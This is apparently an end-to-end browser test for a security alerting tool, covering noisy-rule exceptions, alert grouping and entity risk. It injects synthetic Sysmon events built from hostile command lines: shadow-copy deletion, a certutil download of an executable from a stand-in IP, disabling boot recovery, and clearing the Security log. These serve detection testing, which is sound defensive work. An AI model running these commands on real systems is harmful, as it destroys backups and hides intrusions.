// From detection to alert: a rule whose alerts were mostly wrong, how its detections are grouped, and the risk
// of the entities that its events name. Each page is checked for accessibility in both themes and for overflow
// on a phone.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { sitDown } from "./desk.mjs";
import { intrusion, sysmon } from "./world.mjs";

const LIMIT = { timeout: 180_000 };
let page, send, holds, stop;

before(async () => {
  ({ page, send, holds, stop } = await sitDown());
}, LIMIT);

after(() => stop?.(), LIMIT);

/** Today, some minutes ago. */
const ago = (minutes) => new Date(Date.now() - minutes * 60_000).toISOString();

test("a rule that is mostly wrong says so, and what could be left out of it", LIMIT, async () => {
  await page.goto("/rules?show=noisy");
  await page.getByRole("heading", { name: "No rule is noisy" }).waitFor();
  await holds("rules-none-noisy");
  for (let number = 1; number <= 7; number += 1) {
    const event = sysmon(1, ago(600 - number), `ws-${String(number).padStart(2, "0")}.example.org`, {
      Image: "C:\\Windows\\System32\\vssadmin.exe",
      CommandLine: "vssadmin.exe delete shadows /all /quiet",
      ParentImage: number < 7 ? "C:\\Program Files\\Backup\\agent.exe" : "C:\\Windows\\System32\\cmd.exe",
    });
    await send(`/api/v1/intake?name=${number}.jsonl`, `${event}\n`);
    const verdict = number < 7 ? "false_positive" : "true_positive";
    const said = JSON.stringify({ verdict, reason: "Judged." });
    if (number !== 5) await send(`/api/v1/alerts/ALR-${number}/dismiss`, said, "application/json");
  }
  await page.goto("/rules");
  await page.getByRole("link", { name: "Precision" }).click();
  await page.waitForURL(/sort=precision/);
  await holds("rules");
  await page.getByRole("link", { name: /1 is noisy/ }).click();
  await page.getByRole("link", { name: /Shadow Copies/i }).click();
  await page.getByText("This rule is mostly wrong").waitFor();
  await holds("rule-noisy");
  await page.getByRole("link", { name: "Propose an exception" }).click();
  await page.getByText(/With the first alone, it would have hidden/).waitFor();
  assert.equal(await page.locator("input[name=clause]:checked").count(), 1);
  await holds("exception-proposed");
  await page.getByLabel("Why").fill("The backup agent does this.");
  await page.locator("main form.form button[type=submit]").click();
  await page.waitForURL(/\/suppressions$/);
  await page.goBack();
  await page.goBack();
  await page.reload();
  await page.getByRole("link", { name: "SUP-1" }).waitFor();
});

test("a rule is grouped otherwise after a preview, and back again", LIMIT, async () => {
  await page.getByRole("link", { name: "Change" }).click();
  await page.getByRole("heading", { name: "What becomes one alert?" }).waitFor();
  await page.getByLabel("Entity,").uncheck();
  await page.getByLabel("Account,").check();
  await page.getByLabel("Window in minutes").fill("120");
  await page.getByRole("button", { name: "Preview" }).click();
  await page.getByText("It would have made 1 alert instead of 7").waitFor();
  await holds("grouping");
  await page.getByLabel("Why").fill("One person on many hosts.");
  await page.getByRole("button", { name: "Group so from now on" }).click();
  await page.getByText("One alert for each account").first().waitFor();
  await holds("rule-grouped");
  await page.getByRole("button", { name: "Undo the last change" }).click();
  await page.getByText("GRP-1 undone").waitFor();
});

test("an entity's risk is seen, followed to its signs, and reckoned otherwise", LIMIT, async () => {
  await send("/api/v1/intake?name=intrusion.jsonl", intrusion("fs-01.example.org"));
  const more = [
    ["certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe", "certutil.exe"],
    ["bcdedit.exe /set {default} recoveryenabled no", "bcdedit.exe"],
    ["wevtutil.exe cl Security", "wevtutil.exe"],
  ];
  for (const [place, [CommandLine, image]] of more.entries()) {
    const event = sysmon(1, ago(90 - 20 * place), "fs-01.example.org", {
      Image: `C:\\Windows\\System32\\${image}`,
      CommandLine,
      ParentImage: "C:\\Windows\\System32\\cmd.exe",
    });
    await send(`/api/v1/intake?name=more-${place}.jsonl`, `${event}\n`);
  }
  await page.goto("/entities");
  await page.getByRole("heading", { name: "Entities", exact: true }).waitFor();
  await holds("entities");
  await page.getByRole("link", { name: "fs-01.example.org" }).click();
  await page.getByRole("heading", { name: "Risk over time" }).waitFor();
  await holds("entity");
  await page.goto("/?q=Risk");
  await holds("queue-risk");
  await page.locator("main tbody .row-link").first().click();
  await page.getByRole("heading", { name: "Signs that make it up" }).waitFor();
  await holds("risk-alert");
  await page.goto("/entities/settings");
  await holds("risk-settings");
  await page.getByLabel("Threshold").fill("150");
  await page.getByLabel("Why").fill("We have many servers.");
  await page.getByRole("button", { name: "Set", exact: true }).click();
  await page.getByText("We have many servers.").waitFor();
});
